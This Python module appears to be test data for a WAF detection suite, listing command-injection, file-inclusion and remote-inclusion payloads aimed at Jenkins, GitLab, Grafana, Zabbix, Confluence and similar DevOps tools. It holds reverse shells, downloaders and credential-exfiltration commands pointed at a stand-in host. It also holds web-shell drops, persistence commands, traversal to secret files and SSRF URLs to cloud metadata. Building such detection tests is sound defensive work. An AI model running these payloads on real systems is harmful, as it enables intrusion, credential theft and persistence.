"""Blind set "twohundredtwentyfifth": OS command injection, local file inclusion / path traversal and remote file
inclusion aimed at the tools software teams run for themselves, with benign requests that carry the same words
innocently.

The angle: DevOps and developer tooling, recalled from memory. CI/CD servers and their plugins (Jenkins, GitLab
CI, TeamCity, Bamboo, Drone, Argo CD, Rundeck, Ansible AWX), code hosting and review (GitLab, Gitea, Gogs,
Gerrit, Bitbucket Server), artifact and package registries (Nexus, Artifactory, Harbor, Verdaccio), issue
trackers and wikis (Jira, Confluence, Redmine, MediaWiki), monitoring and log dashboards (Grafana, Kibana,
Prometheus, Zabbix, Nagios), code-quality scanners (SonarQube), ChatOps bots and webhook receivers. Each payload
is written the way it is aimed at one of those tools: a build parameter or branch name expanded into a shell
step, a check command's argument, a Zabbix item key, a mirror or import URL, a plugin, chart or template URL,
an artifact, log or plugin path, the tool's own secret and configuration files. Each group carries a short
comment naming the tool and the target (shell, cmd.exe, PowerShell, PHP interpreter, servlet container, the
product itself).

Families (one sub-family per detection title):
  rce: unix-command-injection, unix-shell-evasion, windows-cmd-injection, powershell,
    unix-command-names-with-paths, reverse-shells, shellshock, downloaders, file-write-via-shell,
    restricted-file-names
  lfi: path-traversal, os-file-access, absolute-paths, null-byte-truncation, php-wrapper-lfi,
    log-poisoning-targets, restricted-file-extensions
  rfi: url-with-ip-address, url-with-trailing-question-mark, include-parameter-with-url, off-domain-reference,
    protocols

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path) under parameter names the tools themselves use (branch, ref, host, target,
command; file, path, artifact, log, resource; url, webhook_url, repo_url, clone_addr, template), once the way a
WAF regression suite sends it (placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get,
/post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names (foo, var, x, test, id, arg1),
as a query string, form body, JSON body, XML body, a raw form-typed body, or in User-Agent, Referer, a custom
header or a cookie. Shellshock goes into headers and cookies, as it reaches a CGI's environment. Include
parameters written as the tool's own `name=value` pair go unquoted into the form body and the raw body; the
Confluence Widget Connector document goes as the whole JSON body. Payloads with control characters (newline,
NUL) never go into headers, cookies or the path, and NUL never into XML.

Authorship and independence: written for this repository from general knowledge of each attack family and of
the tools named, as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression
test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from typing import Any

from .blind_placements import BlindSet, Cycles
from .records import print_records

NAME = "twohundredtwentyfifth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
KV = ("form", "rs-raw-body")

# ================================================================================================================
# rce
# ----------------------------------------------------------------------------------------------------------------
# unix-command-injection: a separator ends the tool's own command and starts the attacker's
CMD_INJECTION: list[Entry] = [
    # Jenkins freestyle job: string parameter BRANCH expanded into `sh "git checkout $BRANCH"` (target: /bin/sh)
    "main; id",
    "main && id",
    "main | id",
    "main`id`",
    "main$(id)",
    "main\nid",
    # GitLab CI: a trigger variable lands unquoted in `script: ./deploy.sh $DEPLOY_ENV` (target: bash on the runner)
    "staging;echo $CI_JOB_TOKEN",
    "staging && printenv | grep -i token",
    # Rundeck job option ${option.host} in a command step (target: /bin/sh on the node)
    "web01;uname -a",
    "web01 || sleep 15",
    # Nagios: a host address passed as $ARG1$ to check_ping through popen (target: /bin/sh on the Nagios server)
    "127.0.0.1|ping -c 10 127.0.0.1",
    # Zabbix agent with remote commands on: an item key whose command is chained (target: /bin/sh on the agent)
    "system.run[hostname;id]",
    # webhook receiver passing the push event's ref to a deploy script (target: /bin/sh)
    "refs/heads/main;id;",
    # Hubot deploy command: the app name goes to `bin/deploy.sh <app>` (target: bash)
    "api-gateway&&whoami",
    # Ansible AWX survey answer used in a shell task: `shell: /opt/app/release.sh {{ version }}` (target: /bin/sh)
    "v2.3.1;sleep 10;#",
    # TeamCity parameter %build.vcs.branch% in a command-line runner; blind, the answer goes out over DNS (bash)
    "release/2.4|nslookup $(whoami).oast.example",
]

# unix-shell-evasion: the same injection under a filter (no spaces, no keywords, no slashes) (target: bash)
SHELL_EVASION: list[Entry] = [
    # GitLab/Gitea branch names cannot hold a space: ${IFS} and brace expansion stand in (CI script, bash)
    "feature/x;cat${IFS}/etc/passwd",
    "feature/x;{cat,/etc/passwd}",
    "feature/x;cat$IFS$9/etc/shadow",
    "feature/x;{ls,-la,/var/jenkins_home/secrets}",
    # Jenkins job parameter behind a keyword blacklist: quotes and backslashes split the command name (bash)
    "main;c'a't /e't'c/pa'ss'wd",
    'main;c"a"t /etc/pas"s"wd',
    "main;w\\ho\\am\\i",
    "main;who$()ami",
    "main;i$@d",
    # Drone step fed a tag name: globbing hides the paths (dash and bash both expand it)
    "v1.0;/???/c?t /???/p?ss??",
    "v1.0;/bin/ca[t] /et[c]/passw[d]",
    # Rundeck node filter behind a slash filter: the slash comes from a variable (bash)
    "web01;cat ${HOME:0:1}etc${HOME:0:1}passwd",
    # ChatOps bot argument: ANSI-C quoting, printf escapes, split variables (bash)
    "api;$'\\x69\\x64'",
    "api;$(printf '\\151\\144')",
    "api;a=i;b=d;$a$b",
    # webhook receiver: encoded command decoded and piped into the shell (bash)
    "main;echo${IFS}aWQ=|base64${IFS}-d|sh",
    "main;$(rev<<<'imaohw')",
    "main;tr 'a-z' 'n-za-m' <<< 'vq' | sh",
]

# windows-cmd-injection: the tool's `bat` / cmd.exe step on a Windows build agent (target: cmd.exe)
WINDOWS_CMD: list[Entry] = [
    # Jenkins `bat "msbuild /p:Configuration=%CONFIG%"` with a parameter from the build form
    "Release & whoami",
    r"Release && type C:\Windows\win.ini",
    "Release | net user",
    "Release || ipconfig /all",
    r"Release & dir C:\ProgramData\Jenkins\.jenkins\secrets",
    "Release & set",
    # TeamCity command-line runner on a Windows agent, %build.vcs.branch% inside double quotes
    '" & whoami & "',
    '"&net localgroup administrators&"',
    # Bamboo script task on Windows: persistence and a new account
    "x & net user build$ Summer2024! /add & net localgroup administrators build$ /add",
    r"x & reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
    r"x & schtasks /create /tn upd /tr C:\Users\Public\u.exe /sc onstart /ru SYSTEM",
    # caret and delayed-expansion obfuscation against a keyword filter (cmd.exe)
    "x & w^ho^am^i",
    'x & cmd /v:on /c "set a=who&& set b=ami&& !a!!b!"',
    # blind: timing and a download through a LOLBin (cmd.exe)
    "x & ping -n 15 127.0.0.1",
    r"x & certutil -urlcache -split -f http://203.0.113.7/a.exe %TEMP%\a.exe & %TEMP%\a.exe",
    'x & wmic process call create "cmd /c whoami > C:\\Users\\Public\\o.txt"',
]

# powershell: Jenkins `powershell` step, TeamCity PowerShell runner, Bamboo on Windows (target: PowerShell)
POWERSHELL: list[Entry] = [
    "1.0; Get-ChildItem env:",
    "x; powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\"",
    "x & powershell -enc dwBoAG8AYQBtAGkA",
    "x; Invoke-Expression 'whoami'",
    "x; iex(iwr http://203.0.113.7/p.ps1 -UseBasicParsing)",
    "x; Start-Process cmd -ArgumentList '/c whoami'",
    r"x; Get-Content C:\ProgramData\Jenkins\.jenkins\secrets\master.key",
    "x; Invoke-WebRequest -Uri http://203.0.113.7/ -Method POST -Body (Get-ChildItem env: | Out-String)",
    "'; & ('who'+'ami'); '",
    "x; &(\"{1}{0}\" -f 'ami','who')",
    "x; iex (-join [char[]](119,104,111,97,109,105))",
    "x; Set-MpPreference -DisableRealtimeMonitoring $true",
    r"x; powershell.exe -ExecutionPolicy Bypass -File \\203.0.113.7\s\r.ps1",
    r"x; [Convert]::ToBase64String([IO.File]::ReadAllBytes('C:\Users\jenkins\.ssh\id_rsa'))",
    # PowerShell Core on a Linux agent (pwsh)
    "x; pwsh -c 'Get-Content /etc/passwd'",
    ("x; $c=New-Object Net.Sockets.TCPClient('203.0.113.7',4444);$s=$c.GetStream();"
     "[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding)"
     ".GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$t=([text.encoding]::ASCII).GetBytes($r);"
     "$s.Write($t,0,$t.Length)}"),
]

# unix-command-names-with-paths: the command called by its full path (target: /bin/sh in the tool's container)
PATH_COMMANDS: list[Entry] = [
    # Jenkins agent
    "main;/usr/bin/id",
    "main|/bin/cat /etc/passwd",
    "main;/bin/bash -c id",
    "main && /usr/bin/env",
    "$(/usr/bin/whoami)",
    "`/bin/hostname`",
    # GitLab Omnibus: the rails runner prints the admins' e-mails (target: the GitLab container's shell)
    "main;/opt/gitlab/bin/gitlab-rails runner 'puts User.admins.map(&:email)'",
    "main;/bin/ls -la /var/opt/gitlab/gitlab-rails/etc",
    # CI runner with the Docker socket mounted: escape to the host
    "main;/usr/bin/docker run -v /:/h --rm alpine chroot /h /bin/sh -c id",
    # Argo CD repo-server / a Kubernetes runner: read the cluster's secrets
    "main;/usr/local/bin/kubectl get secrets -A -o yaml",
    # interpreters by path
    "main;/usr/bin/python3 -c 'import os;os.system(\"id\")'",
    "main;/usr/bin/perl -e 'system(\"id\")'",
    # reconnaissance after the foothold
    "main;/usr/bin/find / -perm -4000 -type f 2>/dev/null",
    "main;/usr/bin/sudo -n -l",
    "main;/sbin/ip addr",
    "main;/usr/bin/getent passwd",
]

# reverse-shells: the build step or check calls back to the attacker (target: the tool's host shell)
REVERSE_SHELLS: list[Entry] = [
    # Jenkins parameter, bash /dev/tcp
    "main;bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "main;bash -c 'bash -i >& /dev/tcp/203.0.113.7/9001 0>&1'",
    "main;0<&196;exec 196<>/dev/tcp/203.0.113.7/4444; sh <&196 >&196 2>&196",
    "main;exec 5<>/dev/tcp/203.0.113.7/4444;cat <&5|while read l;do $l 2>&5 >&5;done",
    "main;sh -i >& /dev/udp/203.0.113.7/53 0>&1",
    # netcat flavours on slim runner images
    "main;nc -e /bin/sh 203.0.113.7 4444",
    "main;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f",
    "main;ncat 203.0.113.7 4444 -e /bin/bash",
    "main;busybox nc 203.0.113.7 4444 -e sh",
    # interpreters present on every build agent (python, perl, ruby, php, node)
    ("main;python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.7\",4444));"
     "[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'"),
    ("main;perl -e 'use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
     "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
     "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'"),
    ("main;ruby -rsocket -e'f=TCPSocket.open(\"203.0.113.7\",4444).to_i;"
     "exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'"),
    "main;php -r '$sock=fsockopen(\"203.0.113.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "main;node -e 'require(\"child_process\").exec(\"bash -c \\\"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\\\"\")'",
    # socat with a full pty (Rundeck node)
    "web01;socat tcp-connect:203.0.113.7:4444 exec:/bin/sh,pty,stderr,setsid,sigint,sane",
    # Zabbix agent item key, detached so the agent does not time out
    "system.run[bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',nowait]",
]

# shellshock: a bash CGI (Nagios Core cgi-bin, old Bugzilla/MediaWiki CGI wrappers) puts the header into its
# environment (target: bash before 4.3 patch 25)
SHELLSHOCK: list[Entry] = [
    "() { :; }; /bin/bash -c 'id'",
    "() { :;}; echo; /usr/bin/id",
    "() { :; }; echo Content-Type: text/plain; echo; /bin/cat /etc/passwd",
    "() { :; }; echo; echo; /bin/bash -c 'cat /usr/local/nagios/etc/htpasswd.users'",
    "() { :;}; /bin/bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "() { :; }; /usr/bin/curl -s http://203.0.113.7/n.sh | /bin/sh",
    "() { :;}; /bin/sleep 20",
    "() { ignored; }; /bin/ping -c 3 203.0.113.7",
    "() { x; }; /usr/bin/wget -qO /tmp/a http://203.0.113.7/a; /bin/sh /tmp/a",
    "() { :;}; /bin/bash -c \"nslookup $(whoami).shellshock.oast.example\"",
    "() { _; } >_[$($())] { echo; /usr/bin/id; }",
    "() { (a)=>\\' /bin/bash -c \"echo date\"; cat echo",
    "() { :; }; echo; /usr/bin/env",
    "() { :; }; /bin/ls -la /usr/local/nagios/etc",
    "() { :;}; echo; /bin/uname -a",
    "() { :; }; /usr/bin/nc 203.0.113.7 4444 -e /bin/sh",
]

# downloaders: fetch a second stage and run it (target: the agent's shell) - the cryptominer drops seen on
# exposed Jenkins, GitLab and Grafana hosts
DOWNLOADERS: list[Entry] = [
    "main;curl -s http://203.0.113.7/i.sh | sh",
    "main;wget -qO- http://203.0.113.7/i.sh | bash",
    "main;curl -fsSL https://evil.example/x | bash -s -- --token $CI_JOB_TOKEN",
    "main;wget http://203.0.113.7/xmrig -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x",
    "main;curl -o /tmp/kdevtmpfsi http://203.0.113.7/kdevtmpfsi;chmod 777 /tmp/kdevtmpfsi;/tmp/kdevtmpfsi",
    "main;cd /tmp && busybox wget http://203.0.113.7/b && sh b",
    "`curl -s 203.0.113.7/s|sh`",
    "$(wget -q -O- http://203.0.113.7/k|sh -s)",
    # exfiltration of the tool's credentials with the same clients
    "main;curl -d @/var/jenkins_home/credentials.xml http://203.0.113.7/",
    "main;curl -F f=@/root/.docker/config.json http://203.0.113.7/up",
    "main;wget --post-file=/etc/gitlab/gitlab-secrets.json http://203.0.113.7/",
    "main;curl http://203.0.113.7:8000/$(env|base64 -w0)",
    # other fetchers when curl and wget are missing from the image
    "main;python3 -c \"import urllib.request as u;exec(u.urlopen('http://203.0.113.7/p.py').read())\"",
    "main;tftp -g -r x.sh 203.0.113.7 && sh x.sh",
    "main;lwp-download http://203.0.113.7/x.pl /tmp/x.pl;perl /tmp/x.pl",
    "main;curl -sk https://raw.githubusercontent.com/attacker/x/main/s.sh -o /tmp/s.sh;bash /tmp/s.sh",
]

# file-write-via-shell: echo, printf and tee write a shell, a key or a hook (target: the tool host's shell)
FILE_WRITE: list[Entry] = [
    # Zabbix and MediaWiki front ends are PHP: drop a web shell into the document root
    "main;echo '<?php system($_GET[0]);?>' > /usr/share/zabbix/s.php",
    "main;echo '<?php system($_GET[0]);?>' > /var/www/mediawiki/images/s.php",
    # Jira runs on Tomcat: a JSP shell in the webapp
    ("main;echo '<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>' > "
     "/opt/atlassian/jira/atlassian-jira/s.jsp"),
    # persistence on the build agent
    ("main;echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wyqDHpSQEIQczXkVx9q x' "
     ">> /root/.ssh/authorized_keys"),
    "main;echo '* * * * * root bash -c \"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"' > /etc/cron.d/upd",
    "main;echo 'jenkins ALL=(ALL) NOPASSWD:ALL' | tee -a /etc/sudoers",
    "main;printf 'r00t:$1$x$Q5nJ.8GmG1Cz0iXo1u2sK/:0:0::/root:/bin/bash\\n' >> /etc/passwd",
    "main;cp /bin/bash /tmp/.b && chmod u+s /tmp/.b",
    # Jenkins: a Groovy init script runs at the next restart
    "main;tee /var/jenkins_home/init.groovy.d/x.groovy <<< 'println \"id\".execute().text'",
    # a here-document spread over lines (Rundeck script step)
    "web01;cat > /tmp/x.sh <<EOF\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\nEOF\nbash /tmp/x.sh",
    # git hooks and config in a CI workspace: the next git command runs them
    "main;printf '#!/bin/sh\\ncurl -s 203.0.113.7/h|sh\\n' > .git/hooks/post-checkout;chmod +x .git/hooks/*",
    "main;printf '[core]\\n\\tfsmonitor = \"id > /tmp/p\"\\n' >> .git/config",
    "main;echo 'export PATH=/tmp:$PATH' >> ~/.bashrc",
    "main;echo Y3VybCAtcyAyMDMuMC4xMTMuNy9zfHNo | base64 -d > /tmp/a;sh /tmp/a",
    # Windows agent: a batch file in the Startup folder, a shell in IIS
    'x & echo net user svc P@ss1! /add > "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\u.bat"',
    'x & echo ^<%@ Page Language="Jscript"%^>^<%eval(Request.Item["c"],"unsafe");%^> > C:\\inetpub\\wwwroot\\c.aspx',
]

# restricted-file-names: the command reads the tool's secrets (target: the tool host's shell)
RESTRICTED_FILES: list[Entry] = [
    "main;cat /etc/shadow",
    "main;cat /var/jenkins_home/secrets/master.key",
    "main;cat /var/jenkins_home/secrets/hudson.util.Secret | base64",
    "main;cat /etc/gitlab/initial_root_password",
    "main;cat ~/.ssh/id_rsa",
    "main;cat /root/.aws/credentials",
    "main;cat ~/.kube/config",
    "main;cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    "main;cat /proc/self/environ",
    "main;strings /var/lib/grafana/grafana.db | grep -i password",
    "main;cat /opt/sonatype/sonatype-work/nexus3/admin.password",
    "main;cat /etc/gitea/app.ini | grep -i SECRET",
    "main;cat ~/.git-credentials ~/.npmrc",
    "main;cat /etc/tower/SECRET_KEY",
    "main;tail -n 100 /var/log/auth.log",
    r"x & type %USERPROFILE%\.ssh\id_rsa",
]

# ================================================================================================================
# lfi
# ----------------------------------------------------------------------------------------------------------------
# path-traversal: ../ and ..\ in every encoding, aimed at each tool's file-serving endpoint
TRAVERSAL: list[Entry] = [
    # Grafana 8.x /public/plugins/<plugin>/<file>: the plugin id is followed by traversal (target: Grafana)
    "alertlist/../../../../../../../../etc/passwd",
    "welcome/../../../../../../../../../var/lib/grafana/grafana.db",
    # Kibana console api_server?apis= (target: Kibana's Node.js require)
    "../../../../../../../../../../../etc/passwd",
    # Jenkins Stapler i18n resource name from Accept-Language (target: Jenkins on Windows)
    "../../../../../../../../windows/win.ini",
    # Argo CD Helm valueFiles reaching another app's directory in the repo server (target: Argo CD)
    "../../../../../tmp/other-app/secrets.yaml",
    # Nexus / Artifactory raw repository path (target: the registry's storage)
    "com/acme/../../../../../../etc/passwd",
    # encodings a front proxy decodes once and the servlet container decodes again (Jira, Confluence, Nexus)
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252f..%252f..%252fetc%252fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    ".%2e/.%2e/.%2e/.%2e/etc/passwd",
    # filters that strip "../" once (Redmine attachment path, a webhook receiver's artifact name)
    "....//....//....//....//etc/passwd",
    "..././..././..././..././etc/passwd",
    # Windows agents and IIS front ends: backslashes in every form (TeamCity, Bamboo, Jenkins on Windows)
    r"..\..\..\..\..\Windows\win.ini",
    "..%5c..%5c..%5c..%5cWindows%5cwin.ini",
    r"..\/..\/..\/..\/etc/passwd",
    "..%c1%9c..%c1%9c..%c1%9cboot.ini",
    "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
    # Tomcat path parameters: Jira/Confluence /s/ resource servlet and Nexus behind a proxy (target: Tomcat/Jetty)
    "/s/cfx/_/;/WEB-INF/classes/seraph-config.xml",
    "/s/x/_/;/WEB-INF/web.xml",
    "..;/..;/..;/WEB-INF/web.xml",
    # fullwidth dots and slashes folded to ASCII by Unicode normalisation (a Node.js webhook receiver)
    "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd",
]

# os-file-access: the well-known files an LFI is aimed at first (target: the tool's file reader)
OS_FILES: list[Entry] = [
    # Jenkins CLI argument expansion: "@file" is replaced by the file's lines (target: Jenkins args4j)
    "@/etc/passwd",
    "@/var/jenkins_home/secrets/initialAdminPassword",
    # procfs of the tool's own process (Grafana, Gitea, Verdaccio run as one process in a container)
    "/proc/self/environ",
    "/proc/self/cmdline",
    "/proc/self/cwd/.env",
    "/proc/1/environ",
    "/proc/self/maps",
    "/proc/self/mounts",
    # source and secrets in the checkout a CI server or wiki serves from
    ".git/config",
    "../../.git/HEAD",
    ".env",
    "../../../.env",
    "../.htaccess",
    "../.htpasswd",
    "../../web.config",
    "WEB-INF/web.xml",
    "../../../../../home/git/.ssh/id_rsa",
    "../../../../root/.ssh/id_rsa",
    "../../../../../var/opt/gitlab/.ssh/authorized_keys",
    "../../../../root/.bash_history",
    # Windows hosts (TeamCity and Bamboo on Windows Server)
    "../../../../../../boot.ini",
    r"..\..\..\..\..\..\inetpub\wwwroot\web.config",
    "../../../../../../Windows/System32/drivers/etc/hosts",
]

# absolute-paths: the tools' own configuration and data, by absolute path or file:// URL (target: file reader)
ABSOLUTE: list[Entry] = [
    "/etc/passwd",
    "/etc/gitlab/gitlab.rb",
    "/var/opt/gitlab/gitlab-rails/etc/secrets.yml",
    "/var/jenkins_home/credentials.xml",
    "/var/jenkins_home/config.xml",
    "/etc/grafana/grafana.ini",
    "/var/lib/grafana/grafana.db",
    "/opt/sonarqube/conf/sonar.properties",
    "/etc/zabbix/zabbix_server.conf",
    "/usr/local/nagios/etc/htpasswd.users",
    "/var/atlassian/application-data/jira/dbconfig.xml",
    "/var/atlassian/application-data/confluence/confluence.cfg.xml",
    "/etc/prometheus/prometheus.yml",
    "/usr/share/kibana/config/kibana.yml",
    "/opt/jfrog/artifactory/var/etc/system.yaml",
    "/verdaccio/conf/htpasswd",
    "/data/gitea/conf/app.ini",
    "/etc/rundeck/realm.properties",
    "/etc/tower/conf.d/credentials.py",
    r"C:\ProgramData\Jenkins\.jenkins\secrets\master.key",
    "C:/Windows/win.ini",
    "file:///etc/passwd",
    "file:///C:/ProgramData/JetBrains/TeamCity/config/database.properties",
]

# null-byte-truncation: the appended extension is cut off by a NUL or by path-length and Windows name rules
NULL_BYTE: list[Entry] = [
    # MediaWiki / Zabbix front ends on PHP before 5.3.4: NUL ends the path at the C level (target: PHP)
    "../../../../etc/passwd\x00",
    "../../../../etc/passwd%00",
    "../../../../etc/passwd%00.png",
    "../../../../etc/passwd\x00.html",
    "../../LocalSettings.php%00",
    "../../../conf/zabbix.conf.php%00.js",
    "../../../../etc/passwd%2500",
    "../../../../etc/passwd%00index.html",
    "....//....//....//etc/passwd%00.log",
    "/etc/passwd\x00.yml",
    "../../../../var/lib/grafana/grafana.db\x00.svg",
    # Java before 7u40 and old Jetty (Nexus 2, Jira 6): NUL in a File name (target: the JVM's file API)
    "../../../../../../etc/shadow%00.jsp",
    "WEB-INF/web.xml%00.css",
    # path-length truncation: PHP on 32-bit builds cuts the path at 4096 characters
    "../../../../etc/passwd" + "/." * 2048,
    "../../../../etc/passwd/" + "./" * 2048 + "x.php",
    # Windows: trailing dots and spaces are dropped, ::$DATA reads the source, 8.3 names (IIS, Windows agents)
    r"..\..\..\Windows\win.ini.......",
    "../../../Windows/win.ini   .",
    "web.config::$DATA",
    "../../LocalSettings.php::$DATA",
    r"..\..\..\PROGRA~1\Jenkins\secrets\MASTER~1.KEY",
    # percent-encoded NUL in a JSON-encoded value the tool decodes twice (Verdaccio tarball name)
    "../../../storage/htpasswd\\u0000.tgz",
    "..%2f..%2f..%2fetc%2fpasswd%00.tgz",
    "../../../../proc/self/environ\x00",
]

# php-wrapper-lfi: PHP stream wrappers in the include of a PHP tool (Zabbix front end, MediaWiki, Nagios XI)
PHP_WRAPPERS: list[Entry] = [
    "php://filter/convert.base64-encode/resource=/etc/zabbix/web/zabbix.conf.php",
    "php://filter/read=convert.base64-encode/resource=LocalSettings.php",
    "php://filter/convert.iconv.utf-8.utf-16/resource=/usr/local/nagiosxi/html/config.inc.php",
    "php://filter/string.rot13/resource=index.php",
    "php://filter/zlib.deflate/convert.base64-encode/resource=../conf/zabbix.conf.php",
    "php://filter/resource=/etc/passwd",
    "php://filter/convert.quoted-printable-encode/resource=../../includes/DefaultSettings.php",
    "pHp://FilTer/convert.base64-encode/resource=index.php",
    "php://filter/read=string.toupper|string.rot13/resource=/usr/local/nagios/etc/resource.cfg",
    ("php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|"
     "convert.iconv.CP1162.UTF32|convert.iconv.L4.T.61|convert.base64-decode/resource=php://temp"),
    "php://filter/write=convert.base64-decode/resource=images/s.php",
    "php://input",
    "php://fd/3",
    "phar:///var/www/mediawiki/images/a/ab/Avatar.jpg/shell.php",
    "phar://../../images/tmp/upload.gif",
    "zip:///var/www/mediawiki/images/3/3a/Logo.zip#shell.php",
    "zip://../../../tmp/php7Ab2.zip%23x.php",
    "compress.zlib:///etc/passwd",
    "compress.bzip2://../../conf/zabbix.conf.php",
    "glob:///var/www/*",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "php://filter/convert.base64-encode/resource=php://filter/resource=../../.env",
    "php://filter/convert.base64-encode|convert.base64-encode/resource=/etc/nagios/htpasswd.users",
]

# log-poisoning-targets: logs that carry the attacker's User-Agent, user name or mail, then included (target: PHP)
LOG_TARGETS: list[Entry] = [
    "/var/log/apache2/access.log",
    "/var/log/nginx/access.log",
    "/var/log/httpd/access_log",
    "../../../../../var/log/nginx/error.log",
    "/proc/self/fd/2",
    "/proc/self/fd/10",
    "/var/log/auth.log",
    "/var/log/mail.log",
    "/var/log/vsftpd.log",
    "/var/log/zabbix/zabbix_server.log",
    "/usr/local/nagios/var/nagios.log",
    "/usr/local/nagiosxi/var/components/auditlog.log",
    "/var/log/gitlab/nginx/gitlab_access.log",
    "/var/log/jenkins/jenkins.log",
    "/var/jenkins_home/jobs/deploy/builds/42/log",
    "/var/log/grafana/grafana.log",
    "/opt/sonarqube/logs/access.log",
    "/var/lib/php/sessions/sess_9hd8v6n1s0q2l3k4j5h6g7f8e9",
    "/tmp/sess_9hd8v6n1s0q2l3k4j5h6g7f8e9",
    "/var/log/mediawiki/debug.log",
    r"C:\xampp\apache\logs\access.log",
    r"C:\inetpub\logs\LogFiles\W3SVC1\u_ex240601.log",
    "../../../../../../usr/share/redmine/log/production.log",
]

# restricted-file-extensions: backups, editor leftovers, configuration and dumps next to the tool (target: the
# web server serving them as static files, or the tool's file reader)
EXTENSIONS: list[Entry] = [
    "LocalSettings.php.bak",
    "LocalSettings.php~",
    "conf/zabbix.conf.php.old",
    "../web.config.bak",
    "../../conf/app.ini.bak",
    "config/database.yml.bak",
    "/etc/gitlab/gitlab.rb.bak",
    "backup.sql",
    "../backups/jira-2024-06-01.sql",
    "confluence_backup.sql.gz",
    "mediawiki.sql",
    "../grafana.ini.old",
    "../../conf/sonar.properties.old",
    ".config.inc.php.swp",
    "nexus.properties.bak",
    "../../etc/db.ini",
    "../../php.ini",
    "../../my.ini",
    "credentials.config",
    "../App.config",
    "id_rsa.bak",
    ".gitlab-ci.yml.orig",
    "../../../redmine_production.sql",
]

# ================================================================================================================
# rfi
# ----------------------------------------------------------------------------------------------------------------
# url-with-ip-address: the remote resource by IP address (target: the tool that fetches and runs or renders it)
IP_URLS: list[Entry] = [
    # Confluence Widget Connector _template (Velocity renders the remote template) (target: Confluence)
    "http://203.0.113.7/cmd.vm",
    "https://198.51.100.23:8443/exp.vm",
    # Jenkins update site / plugin upload by URL (target: Jenkins loads the .hpi)
    "http://203.0.113.7:8000/update-center.json",
    "https://203.0.113.7/plugins/backdoor.hpi",
    # Grafana plugin install and data-source URL (target: Grafana)
    "http://203.0.113.7/grafana-plugin.zip",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    # Gitea / Gogs / GitLab repository import (clone_addr, import_url) (target: the hosting server)
    "http://203.0.113.7/payload.git",
    "http://127.0.0.1:8080/script",
    "http://10.0.0.5:9000/api/system/info",
    "http://192.168.1.10:8081/service/rest/v1/script",
    # Jira gadget makeRequest (target: Jira fetches for the attacker)
    "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    # Argo CD Helm repository / Drone plugin image registry (target: Argo CD repo-server)
    "http://203.0.113.7:8080/charts/index.yaml",
    "https://203.0.113.7:5000/v2/_catalog",
    # PHP include in Nagios XI and Zabbix modules (target: PHP with allow_url_include)
    "http://203.0.113.7/shell.txt",
    "http://198.51.100.23/c99.txt",
    # IP address in other notations that parsers accept
    "http://3405803783/x.php",
    "http://0xcb007107/x.php",
    "http://0313.0.0161.07/x.php",
    "http://[::ffff:203.0.113.7]/x.php",
    "http://[::ffff:cb00:7107]/exp.vm",
    "http://203.0.113.7.nip.io/x.php",
    "http://127.1:9090/api/v1/admin/tsdb/delete_series?match[]=up",
    "http://0.0.0.0:8080/scriptText",
    "http://[::1]:3000/api/admin/users",
    # webhook targets the tool will POST to (Harbor, Bitbucket, Gitea webhooks) (target: internal services)
    "http://172.17.0.1:2375/containers/json",
    "http://10.96.0.1:443/api/v1/namespaces/kube-system/secrets",
    "http://127.0.0.1:6379/",
    "http://127.0.0.1:8500/v1/agent/self",
    "http://203.0.113.7/rce.vm#",
    "http://192.0.2.15:8080/job/seed/build?token=x",
    "https://198.51.100.23/id_rsa.pub",
]

